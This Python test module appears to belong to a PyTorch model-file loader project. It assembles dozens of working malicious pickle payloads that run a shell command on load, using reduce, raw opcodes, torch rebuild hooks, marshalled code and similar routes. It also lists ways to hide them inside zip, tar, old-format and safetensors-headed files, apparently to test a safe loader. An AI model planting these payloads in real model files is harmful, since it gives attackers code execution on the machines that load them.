"""Pickles that run code when they are read as pickles, and the kinds of files that they may lie in."""

import io
import marshal
import os
import pickle
import struct
import tarfile
import zipfile
from collections import OrderedDict
from collections.abc import Callable
from typing import Any

import numpy as np
import torch
from torch import nn

from lstm_viz.files.pytorch_file import OLD_FORMAT
from tests.files.making import pytorch

Command = Callable[[str], bytes]


def text(value: str) -> bytes:
    """A text, as protocol 2 writes it."""
    return b"X" + struct.pack("<I", len(value)) + value.encode()


def call(module: str, name: str, *arguments: bytes) -> bytes:
    """The call of a named function, as protocol 2 writes it."""
    return b"c" + f"{module}\n{name}\n(".encode() + b"".join(arguments) + b"tR"


def whole(body: bytes) -> bytes:
    return b"\x80\x02" + body + b"."


def shell(command: str) -> bytes:
    """The list of arguments that has a shell run a command."""
    return b"(" + text("/bin/sh") + text("-c") + text(command) + b"l"


SYSTEM = b"cos\nsystem\n"


class Reduced:
    """Whatever pickle itself makes of a call on loading."""

    def __init__(self, function: Callable[..., Any], *arguments: Any) -> None:
        self.call = (function, arguments)

    def __reduce__(self) -> Any:
        return self.call


def reduced(protocol: int) -> Command:
    return lambda command: pickle.dumps(Reduced(os.system, command), protocol)


def run(command: str) -> str:
    return f"import os; os.system({command!r})"


ATTACKS: dict[str, Command] = {
    **{f"os.system by __reduce__, protocol {k}": reduced(k) for k in range(6)},
    "os.system, named as os": lambda command: whole(call("os", "system", text(command))),
    "exec": lambda command: pickle.dumps(Reduced(exec, run(command)), 2),
    "eval": lambda command: pickle.dumps(Reduced(eval, f"__import__('os').system({command!r})"), 2),
    "INST": lambda command: f"(S{command!r}\nios\nsystem\n.".encode(),
    "OBJ": lambda command: b"\x80\x02(cos\nsystem\n" + text(command) + b"o.",
    "NEWOBJ": lambda command: whole(b"csubprocess\nPopen\n" + text("") + b"\x85\x81"),
    "NEWOBJ_EX": lambda command: b"\x80\x04csubprocess\nPopen\n(" + shell(command) + b"t}\x92.",
    "STACK_GLOBAL": lambda command: b"\x80\x04\x8c\x02os\x8c\x06system\x93" + text(command) + b"\x85R.",
    "subprocess": lambda command: whole(
        call("subprocess", "check_output", shell(command))
    ),
    "a pickle in a pickle": lambda command: pickle.dumps(Reduced(pickle.loads, reduced(2)(command)), 2),
    "a pickle in a storage": lambda command: pickle.dumps(
        Reduced(torch.storage._load_from_bytes, pytorch(Reduced(os.system, command))), 2
    ),
    "torch.load": lambda command: whole(
        call("torch", "load", call("io", "BytesIO", call("_codecs", "encode", text("no"), text("latin1"))))
    ),
    "marshalled code": lambda command: pickle.dumps(
        Reduced(exec, Reduced(marshal.loads, marshal.dumps(compile(run(command), "", "exec")))), 2
    ),
    "__setstate__ of a named class": lambda command: whole(
        b"ctorch.nn.modules.rnn\nLSTM\n)\x81}" + text("proj_size") + call("os", "system", text(command)) + b"sb"
    ),
    "a function for a state": lambda command: whole(
        b"ccollections\nOrderedDict\n)R" + call("os", "system", text(command)) + b"b"
    ),
    "in a mapping, as a value": lambda command: whole(b"}" + text("a") + call("os", "system", text(command)) + b"s"),
    "in a mapping, as a key": lambda command: whole(b"}" + call("os", "system", text(command)) + b"Ns"),
    "among hooks of a tensor": lambda command: whole(
        call("torch._utils", "_rebuild_tensor_v2", call("os", "system", text(command)), b"K\x00", b")", b")", b"\x89")
    ),
    "torch's rebuilding of any type": lambda command: whole(
        call("torch._tensor", "_rebuild_from_type_v2", SYSTEM, SYSTEM, text(command) + b"\x85", b"N")
    ),
    "getattr": lambda command: whole(
        call("builtins", "getattr", call("builtins", "__import__", text("os")), text("system"))
        + text(command)
        + b"\x85R"
    ),
    "functools.partial": lambda command: whole(
        call("functools", "partial", SYSTEM, text(command)) + b")R"
    ),
    "map and list": lambda command: whole(
        call("builtins", "list", call("builtins", "map", SYSTEM, text(command) + b"\x85"))
    ),
    "runpy": lambda command: whole(call("runpy", "_run_code", text(run(command)), b"}")),
    "timeit": lambda command: whole(call("timeit", "timeit", text("1"), text(run(command)))),
    "copyreg": lambda command: whole(
        call("copyreg", "__newobj__", b"csubprocess\nPopen\n", shell(command))
    ),
    "as dill writes it": lambda command: whole(
        call("dill._dill", "_create_function", call("dill._dill", "_load_type", text("CodeType")), b"}")
        + call("os", "system", text(command)) + b"0"
    ),
    "as cloudpickle writes it": lambda command: whole(
        call("cloudpickle.cloudpickle", "_make_function", text("x")) + call("os", "system", text(command)) + b"0"
    ),
    "as joblib writes it": lambda command: (
        b"\x80\x04cjoblib.numpy_pickle\nNumpyArrayWrapper\n)\x810" + reduced(4)(command)[2:]
    ),
    "an object array of NumPy": lambda command: np.array([Reduced(os.system, command)], dtype=object).dumps(),
    "an extension code": lambda command: b"\x80\x02\x82\x01" + text(command) + b"\x85R.",
    "a persistent id": lambda command: whole(
        b"(" + text("module") + SYSTEM + text("a") + text(command) + b"tQ"
    ),
    "a codec": lambda command: whole(call("_codecs", "encode", text("a" * 9), text("idna"))),
}  # fmt: skip
"""How the pickle is made, by what is special about it; given a command for the shell."""


def zipped(parts: dict[str, bytes], compression: int = zipfile.ZIP_STORED) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, content in parts.items():
            archive.writestr(name, content)
    return file.getvalue()


def tarred(parts: dict[str, bytes]) -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, content in parts.items():
            entry = tarfile.TarInfo(name)
            entry.size = len(content)
            archive.addfile(entry, io.BytesIO(content))
    return file.getvalue()


GOOD = pytorch(nn.LSTM(2, 3).state_dict())
GOOD_PICKLE = zipfile.ZipFile(io.BytesIO(GOOD)).read("archive/data.pkl")
_REST: tuple[Any, ...] = (1001, {"little_endian": True}, OrderedDict(), [])
OLD_REST = [pickle.dumps(part, 2) for part in _REST]


def old_format(place: int, attack: bytes) -> bytes:
    """A file of the format before PyTorch 1.6, of whose pickles after the first one is another."""
    return OLD_FORMAT + b"".join([*OLD_REST[:place], attack, *OLD_REST[place + 1 :]])


DRESSES: dict[str, Callable[[bytes], bytes]] = {
    "bare": lambda attack: attack,
    "in the archive": lambda attack: zipped({"archive/data.pkl": attack, "archive/version": b"3\n"}),
    "in the archive, packed": lambda attack: zipped({"archive/data.pkl": attack}, zipfile.ZIP_DEFLATED),
    "as a program’s constants": lambda attack: zipped(
        {"archive/data.pkl": GOOD_PICKLE, "archive/constants.pkl": attack, "archive/code/a.py": b"import os"}
    ),
    "where numbers should be": lambda attack: zipped({"archive/data.pkl": GOOD_PICKLE, "archive/data/0": attack}),
    "under a name in capitals": lambda attack: zipped({"archive/data.pkl": GOOD_PICKLE, "archive/DATA.pkl": attack}),
    "under another root": lambda attack: zipped({"archive/data.pkl": GOOD_PICKLE, "other/data.pkl": attack}),
    "under a hidden name": lambda attack: zipped({"archive/weights": attack}),
    "behind a good archive": lambda attack: GOOD + attack,
    "before a good archive": lambda attack: attack + GOOD,
    "in the old format": lambda attack: old_format(2, attack),
    "in the old format, for its system": lambda attack: old_format(1, attack),
    "in the old format, for its version": lambda attack: old_format(0, attack),
    "in the old format, for its list": lambda attack: old_format(3, attack),
    "in the oldest format": lambda attack: tarred({"pickle": attack, "storages": attack, "tensors": attack}),
    "behind a header of safetensors": lambda attack: struct.pack("<Q", 2) + b"{}" + attack,
}
"""What kind of file the pickle lies in."""
